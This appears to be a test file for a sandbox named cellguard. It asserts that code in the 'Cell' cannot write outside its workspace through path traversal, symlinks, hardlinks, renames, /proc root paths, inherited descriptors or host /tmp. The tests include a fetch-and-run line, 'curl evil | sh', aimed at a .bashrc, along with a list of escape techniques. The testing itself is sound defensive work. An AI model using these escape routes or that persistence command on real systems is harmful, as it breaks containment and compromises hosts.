import assert from "node:assert/strict";
import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, test } from "node:test";
import { useFixture } from "../helpers/fixture-home.js";
import { sandboxSkipReason } from "../helpers/host.js";
import { attack, assertNoCanary } from "./harness.js";

const skip = sandboxSkipReason();

describe("escape: writes outside the workspace", { skip }, () => {
  const fx = useFixture();

  test("a write to an absolute path outside the workspace fails and leaves nothing on the host", async () => {
    const target = join(fx.root, "outside.txt");
    const r = await attack(fx, `report(result=attempt(lambda: write_text(sys.argv[1])))`, {
      args: [target],
    });
    assert.notEqual(r.report["result"], "ok");
    assert.equal(existsSync(target), false);
  });

  test("a write through .. out of the workspace fails", async () => {
    const r = await attack(fx, `report(result=attempt(lambda: write_text("../dotdot.txt")))`);
    assert.notEqual(r.report["result"], "ok");
    assert.equal(existsSync(join(fx.root, "dotdot.txt")), false);
  });

  test("a symlink planted in the workspace pointing out does not carry a write out", async () => {
    const outsideDir = join(fx.root, "outside-dir");
    mkdirSync(outsideDir);
    symlinkSync(outsideDir, join(fx.workspace, "link"));
    const r = await attack(
      fx,
      `report(result=attempt(lambda: write_text("link/through-symlink.txt")))`,
    );
    assert.notEqual(r.report["result"], "ok");
    assert.equal(existsSync(join(outsideDir, "through-symlink.txt")), false);
  });

  test("a symlink created by the Cell pointing out does not carry a write out", async () => {
    const target = join(fx.root, "cell-made-link-target.txt");
    const r = await attack(
      fx,
      `os.symlink(sys.argv[1], "made-link")
report(result=attempt(lambda: write_text("made-link")))`,
      { args: [target] },
    );
    assert.notEqual(r.report["result"], "ok");
    assert.equal(existsSync(target), false);
  });

  test("renaming a workspace file out of the workspace fails", async () => {
    writeFileSync(join(fx.workspace, "data.txt"), "workspace data");
    const target = join(fx.root, "renamed-out.txt");
    const r = await attack(
      fx,
      `report(result=attempt(lambda: os.rename("data.txt", sys.argv[1])))`,
      {
        args: [target],
      },
    );
    assert.notEqual(r.report["result"], "ok");
    assert.equal(existsSync(target), false);
    assert.equal(readFileSync(join(fx.workspace, "data.txt"), "utf8"), "workspace data");
  });

  test("hardlinking a workspace file out of the workspace fails", async () => {
    writeFileSync(join(fx.workspace, "data.txt"), "workspace data");
    const target = join(fx.root, "hardlinked-out.txt");
    const r = await attack(fx, `report(result=attempt(lambda: os.link("data.txt", sys.argv[1])))`, {
      args: [target],
    });
    assert.notEqual(r.report["result"], "ok");
    assert.equal(existsSync(target), false);
  });

  test("a write into the host's /tmp fails", async () => {
    const target = join(tmpdir(), `cellguard-escape-${process.pid}-${Date.now()}`);
    const r = await attack(fx, `report(result=attempt(lambda: write_text(sys.argv[1])))`, {
      args: [target],
    });
    assert.notEqual(r.report["result"], "ok");
    assert.equal(existsSync(target), false);
  });

  test("a write to a shell start-up file in the home directory fails", async () => {
    const bashrc = fx.plant(".bashrc", "# original\n");
    const r = await attack(
      fx,
      `report(result=attempt(lambda: write_text(sys.argv[1], "curl evil | sh")))`,
      {
        args: [bashrc],
      },
    );
    assert.notEqual(r.report["result"], "ok");
    assert.equal(readFileSync(bashrc, "utf8"), "# original\n");
  });

  test("a host directory descriptor inherited by cellguard does not reach the Cell", async () => {
    const outsideDir = join(fx.root, "inherited-dir");
    mkdirSync(outsideDir);
    {
      const r = await attack(
        fx,
        `def via_fd():
    os.close(os.open("via-fd.txt", os.O_WRONLY | os.O_CREAT, 0o600, dir_fd=200))
report(result=attempt(via_fd), fds=sorted(int(n) for n in os.listdir("/proc/self/fd")))`,
        { inheritedDirectory: outsideDir },
      );
      assert.notEqual(r.report["result"], "ok");
      assert.equal(existsSync(join(outsideDir, "via-fd.txt")), false);
      assert.ok(!(r.report["fds"] as number[]).includes(200), "descriptor 200 reached the Cell");
    }
  });

  test("a write through /proc/self/root and /proc/1/root fails", async () => {
    const target = join(fx.root, "via-proc-root.txt");
    const r = await attack(
      fx,
      `report(self=attempt(lambda: write_text("/proc/self/root" + sys.argv[1])),
       init=attempt(lambda: write_text("/proc/1/root" + sys.argv[1])))`,
      { args: [target] },
    );
    assert.notEqual(r.report["self"], "ok");
    assert.notEqual(r.report["init"], "ok");
    assert.equal(existsSync(target), false);
  });

  test("hardlinking an outside file into the workspace fails (writes through it would reach the file)", async () => {
    const outside = join(fx.root, "victim.txt");
    writeFileSync(outside, "victim");
    const r = await attack(
      fx,
      `report(result=attempt(lambda: os.link(sys.argv[1], "grabbed.txt")))`,
      {
        args: [outside],
      },
    );
    assert.notEqual(r.report["result"], "ok");
    assert.equal(existsSync(join(fx.workspace, "grabbed.txt")), false);
    assertNoCanary(r, fx);
  });
});

describe("escape: the workspace and private temp stay usable", { skip }, () => {
  const fx = useFixture();

  test("writes in the workspace and in the private temp succeed", async () => {
    const r = await attack(
      fx,
      `import tempfile
with tempfile.NamedTemporaryFile(delete=False) as t:
    t.write(b"scratch")
report(workspace=attempt(lambda: write_text("result.txt", "42")), temp=t.name, tmpdir=os.environ.get("TMPDIR"))`,
    );
    assert.equal(r.report["workspace"], "ok");
    assert.equal(readFileSync(join(fx.workspace, "result.txt"), "utf8"), "42");
    assert.match(String(r.report["temp"]), /cellguard-kernel-/);
    assert.equal(
      existsSync(String(r.report["temp"])),
      false,
      "the private temp is removed after the run",
    );
  });
});
